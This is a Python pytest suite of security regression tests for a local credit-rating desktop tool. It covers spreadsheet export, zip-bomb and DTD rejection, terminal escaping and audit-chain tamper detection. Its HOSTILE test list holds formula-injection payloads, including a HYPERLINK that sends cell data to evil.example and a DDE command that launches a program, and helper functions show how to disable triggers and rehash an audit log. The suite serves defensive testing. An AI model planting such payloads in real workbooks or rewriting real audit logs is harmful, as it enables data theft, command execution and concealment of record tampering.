"""Issue 21, findings 6, 8, 9, 13, 14, 15, 17: formula text in every workbook, bounded .xlsx reading, DTDs,
outputs only onto regular files, escaped terminal output, and an audit chain that cannot be rewritten or cut
off unnoticed once an anchor is held elsewhere (a later backup, a sync package)."""

from __future__ import annotations

import datetime as dt
import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from hostile_files import with_dtd, zip_bomb
from openpyxl import load_workbook
from sqlalchemy import text

from xuyi_desktop.cli import main
from xuyi_desktop.domain.entities import EntityDraft
from xuyi_desktop.domain.identifiers import org_code_check_char, uscc_check_char
from xuyi_desktop.domain.ratings import RatingStatus
from xuyi_desktop.services import audit, backup
from xuyi_desktop.services.audit_export import export_audit
from xuyi_desktop.services.entities import register_entity
from xuyi_desktop.services.rating_exchange import export_publicity
from xuyi_desktop.services.ratings import RatingInput, add_rating, set_status
from xuyi_desktop.storage import audit_chain

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(1,2)"]


def uscc(n: int) -> str:
    org8 = f"{n:08d}"
    first17 = "91320830" + org8 + org_code_check_char(org8)
    return first17 + uscc_check_char(first17)


def run_cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    capsys.readouterr()
    code = main(list(argv))
    out = capsys.readouterr()
    return code, out.out, out.err


def formula_cells(path: Path) -> list[str]:
    """Every <f> element in the workbook's sheets: what a spreadsheet would run."""
    found = []
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and b"<f>" in zf.read(name) or b"<f " in zf.read(name):
                found.append(name)
    return found


def test_formula_named_entities_export_as_text_everywhere(ctx, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    for i, name in enumerate(HOSTILE, start=1):
        entity = register_entity(ctx, EntityDraft(name=name, identifier=uscc(i), categories=("construction_unit",)), allow_similar=True)
        rating = add_rating(ctx, RatingInput(entity=entity.summary.id, domain="highway_construction", period=2025, score=90,
                                             decision_date=dt.date.today(), document_no=f"盱交信〔2026〕{i}号"))
        for step in (RatingStatus.REVIEWED, RatingStatus.PUBLICITY):
            set_status(ctx, rating.id, step)
    publicity = tmp_path / "publicity.xlsx"
    export_publicity(ctx, period=2025, domain="highway_construction", out=publicity)
    log = tmp_path / "audit.xlsx"
    export_audit(ctx, log)
    for path in (publicity, log):
        assert formula_cells(path) == [], path
        wb = load_workbook(path)
        cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
        shown = {c.value: c for c in cells}
        for name in HOSTILE if path == publicity else []:
            cell = shown[name]  # the value is the name itself, kept as text with Excel's leading-quote mark
            assert cell.data_type == "s" and cell.quotePrefix, (name, cell.data_type)
        assert all(c.data_type == "s" for c in cells)
        marked = [c.value for c in cells if c.quotePrefix]
        assert all(v[0] in "=+-@" for v in marked) and (marked or path == log)
    assert any(name in str(c.value) for c in load_workbook(log).active["G"] for name in HOSTILE)


def test_control_characters_in_old_data_do_not_break_exports_or_reach_the_terminal(
    ctx, database: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]  # type: ignore[no-untyped-def]
) -> None:
    entity = register_entity(ctx, EntityDraft(name="盱眙县顺达运输有限公司", identifier=uscc(40), categories=("road_operator",)))
    with ctx.transaction() as s:  # a name from before names were checked (or written around the program)
        s.execute(text("UPDATE entity SET name = :n WHERE id = :i"),
                  {"n": "盱眙县\x1b[2J\x07顺达\u202e运输有限公司", "i": entity.summary.id.hex if "://" not in database else entity.summary.id})
    code, out, _ = run_cli(capsys, "--db", database, "entity", "show", str(entity.summary.id))
    assert code == 0 and "\x1b" not in out and "\x07" not in out and "\u202e" not in out and "\\x1b[2J\\x07" in out
    code, out, _ = run_cli(capsys, "--db", database, "entity", "show", str(entity.summary.id), "--json")
    assert code == 0 and "\u202e" not in out


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="measures the peak memory from /proc")
def test_a_4_mb_zip_bomb_is_refused_with_memory_to_spare(tmp_path: Path, database: str) -> None:
    bomb = zip_bomb(tmp_path / "台账.xlsx")
    assert 3_500_000 < bomb.stat().st_size < 4_500_000
    # The peak of this process only: VmHWM (ru_maxrss on Linux carries over the parent's peak across exec).
    probe = ("import sys; from xuyi_desktop.cli import main; code = main(sys.argv[1:]); "
             "print([l.split()[1] for l in open('/proc/self/status') if l.startswith('VmHWM')][0]); sys.exit(code)")
    for command in (["import", "sgs", str(bomb)], ["import", "ratings", str(bomb)]):
        done = subprocess.run([sys.executable, "-c", probe, "--db", database, *command], capture_output=True, text=True,
                              timeout=300, check=False, env=dict(os.environ))
        peak_mib = int(done.stdout.split()[-1]) / 1024
        assert done.returncode == 1 and done.stderr.count("\n") == 1 and "压缩炸弹" in done.stderr, done.stderr
        assert peak_mib < 300, f"peak RSS {peak_mib:.0f} MiB (floor 300 MiB)"
        print(f"zip bomb {' '.join(command[:2])}: refused, peak RSS {peak_mib:.0f} MiB (floor 300)")


def test_a_workbook_with_a_dtd_is_refused_with_one_line(tmp_path: Path, database: str, capsys: pytest.CaptureFixture[str]) -> None:
    path = with_dtd(tmp_path / "实体.xlsx")
    for command in (["import", "sgs", str(path)], ["import", "ratings", str(path)]):
        code, _, err = run_cli(capsys, "--db", database, *command)
        assert code == 1 and err.startswith("错误：") and "DTD" in err and err.count("\n") == 1, err


def test_out_refuses_devices_pipes_and_existing_files_without_force(tmp_path: Path, database: str,
                                                                    capsys: pytest.CaptureFixture[str]) -> None:
    assert run_cli(capsys, "--db", database, "init")[0] == 0
    targets = [Path("/dev/null")] if os.name == "posix" else []
    if hasattr(os, "mkfifo"):
        fifo = tmp_path / "pipe.xlsx"
        os.mkfifo(fifo)
        targets.append(fifo)
    for target in targets:
        code, _, err = run_cli(capsys, "--db", database, "import", "ratings-template", "--out", str(target))
        assert code == 1 and "不是普通文件" in err, err
    assert Path("/dev/null").is_char_device() if os.name == "posix" else True
    out = tmp_path / "模板.xlsx"
    assert run_cli(capsys, "--db", database, "import", "ratings-template", "--out", str(out))[0] == 0
    code, _, err = run_cli(capsys, "--db", database, "import", "ratings-template", "--out", str(out))
    assert code == 1 and "--force" in err
    assert run_cli(capsys, "--db", database, "import", "ratings-template", "--out", str(out), "--force")[0] == 0
    code, _, err = run_cli(capsys, "--db", database, "import", "ratings-template", "--out", str(tmp_path))
    assert code == 1 and "文件夹" in err


# --- the anchored audit chain ------------------------------------------------------------------------------


def _rewrite_chain(ctx, drop_seq: int) -> None:  # type: ignore[no-untyped-def]
    """What someone holding the database file can do: delete an entry and recompute every later hash."""
    from xuyi_desktop.storage.models import AuditEntry

    with ctx.engine.begin() as conn:
        if conn.dialect.name == "sqlite":
            conn.exec_driver_sql("DROP TRIGGER IF EXISTS audit_log_no_update")
            conn.exec_driver_sql("DROP TRIGGER IF EXISTS audit_log_no_delete")
        else:
            conn.exec_driver_sql("ALTER TABLE audit_log DISABLE TRIGGER USER")
        conn.exec_driver_sql(f"DELETE FROM audit_log WHERE seq = {drop_seq}")
        conn.exec_driver_sql("DELETE FROM audit_anchor")  # the anchors in this database go too
    with ctx.sessions.begin() as s:
        rows = s.query(AuditEntry).filter(AuditEntry.seq > drop_seq).order_by(AuditEntry.seq).all()
        prev = s.query(AuditEntry.entry_hash).filter(AuditEntry.seq == drop_seq - 1).scalar()
        for entry in rows:  # renumber and rehash: the chain is whole again
            s.execute(text("UPDATE audit_log SET seq = :new WHERE seq = :old"), {"new": entry.seq - 1, "old": entry.seq})
        s.expire_all()
        for entry in s.query(AuditEntry).filter(AuditEntry.seq >= drop_seq).order_by(AuditEntry.seq).all():
            entry.prev_hash = prev
            entry.entry_hash = prev = audit_chain.entry_hash(entry)
        s.execute(text("UPDATE counter SET value = value - 1 WHERE name = 'audit_log'"))


def _make_history(ctx, n: int) -> None:  # type: ignore[no-untyped-def]
    for i in range(n):
        register_entity(ctx, EntityDraft(name=f"盱眙县第{i}运输有限公司", identifier=uscc(100 + i), categories=("road_operator",)))


@pytest.mark.sqlite_only("backups are SQLite files")
def test_a_rewritten_chain_fails_audit_verify_against_the_anchor_in_a_later_backup(
    ctx, database: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]  # type: ignore[no-untyped-def]
) -> None:
    _make_history(ctx, 6)
    saved = backup.backup_now(ctx, tmp_path / "backup.db")
    _make_history(ctx, 0)
    _rewrite_chain(ctx, 3)
    assert audit.verify_chain(ctx).ok  # the chain alone no longer shows it
    code, _, err = run_cli(capsys, "--db", database, "audit", "verify", "--anchor", str(saved))
    assert code == 1 and "锚点不符" in err and "备份 backup.db" in err, err
    code, out, _ = run_cli(capsys, "--db", database, "audit", "verify", "--anchor", str(saved), "--json")
    assert code == 1 and json.loads(out)["ok"] is False


@pytest.mark.sqlite_only("backups are SQLite files")
def test_cutting_off_the_last_entries_is_found_by_the_anchor_in_a_backup(
    ctx, database: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]  # type: ignore[no-untyped-def]
) -> None:
    _make_history(ctx, 4)
    saved = backup.backup_now(ctx, tmp_path / "b.db")
    code, out, _ = run_cli(capsys, "--db", database, "audit", "verify", "--anchor", str(saved))
    assert code == 0 and "签名锚点一致" in out
    with ctx.engine.begin() as conn:
        last = conn.exec_driver_sql("SELECT MAX(seq) FROM audit_log").scalar()
        conn.exec_driver_sql("DROP TRIGGER IF EXISTS audit_log_no_delete")
        conn.exec_driver_sql(f"DELETE FROM audit_log WHERE seq > {last - 3}")
        conn.exec_driver_sql("DELETE FROM audit_anchor")
        conn.exec_driver_sql(f"UPDATE counter SET value = {last - 3} WHERE name = 'audit_log'")
    assert audit.verify_chain(ctx).ok
    code, _, err = run_cli(capsys, "--db", database, "audit", "verify", "--anchor", str(saved))
    assert code == 1 and "删除或截断" in err, err


def test_anchors_stored_in_the_database_catch_a_rewrite_that_left_them(ctx) -> None:  # type: ignore[no-untyped-def]
    _make_history(ctx, 3)
    from xuyi_desktop.services import audit_anchor

    audit_anchor.anchor_now(ctx, "test")
    with ctx.engine.begin() as conn:  # rewrite an entry's summary and its hash, leaving the chain's links whole
        if conn.dialect.name == "sqlite":
            conn.exec_driver_sql("DROP TRIGGER IF EXISTS audit_log_no_update")
        else:
            conn.exec_driver_sql("ALTER TABLE audit_log DISABLE TRIGGER USER")
    _rewrite_chain_last_summary(ctx)
    report = audit.verify_chain(ctx)
    assert not report.ok and "锚点" in report.reason_zh


def _rewrite_chain_last_summary(ctx) -> None:  # type: ignore[no-untyped-def]
    from xuyi_desktop.storage.models import AuditEntry

    with ctx.sessions.begin() as s:
        entries = s.query(AuditEntry).order_by(AuditEntry.seq).all()
        entries[1].summary = "（被改写）"
        prev = entries[0].entry_hash
        for entry in entries[1:]:
            entry.prev_hash = prev
            entry.entry_hash = prev = audit_chain.entry_hash(entry)


@pytest.mark.sqlite_only("file modes of the SQLite file and its backups")
@pytest.mark.skipif(os.name != "posix", reason="POSIX file modes")
def test_database_and_backups_are_owner_only(ctx, database: str, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    import stat

    _make_history(ctx, 1)
    plain = backup.backup_now(ctx, tmp_path / "plain.db")
    sealed = backup.backup_now(ctx, tmp_path / "sealed.xbak", passphrase="a long backup passphrase")
    for path in (Path(database), Path(database + "-wal"), plain, sealed):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    os.chmod(database, 0o644)  # a database made before: tightened at the next start
    from xuyi_desktop.services.context import open_context

    open_context(database).close()
    assert stat.S_IMODE(Path(database).stat().st_mode) == 0o600


def test_the_error_workbook_keeps_formula_like_text_as_text(tmp_path: Path, database: str, capsys: pytest.CaptureFixture[str]) -> None:
    template = tmp_path / "模板.xlsx"
    assert run_cli(capsys, "--db", database, "import", "ratings-template", "--out", str(template))[0] == 0
    wb = load_workbook(template)
    ws = wb.worksheets[0]
    headers = [c.value for c in ws[1]]
    first = headers[0]
    ws.append(["=1+1" if h == first else "+86-0517-88888888" for h in headers])  # text typed with a leading quote
    wb.save(tmp_path / "台账.xlsx")
    errors = tmp_path / "错误.xlsx"
    code, _, err = run_cli(capsys, "--db", database, "import", "ratings", str(tmp_path / "台账.xlsx"), "--errors", str(errors))
    assert code == 1 and errors.is_file(), err
    assert formula_cells(errors) == []
    copied = [c for c in load_workbook(errors).worksheets[0][2] if c.value in ("=1+1", "+86-0517-88888888")]
    assert copied and all(c.data_type == "s" and c.quotePrefix for c in copied)
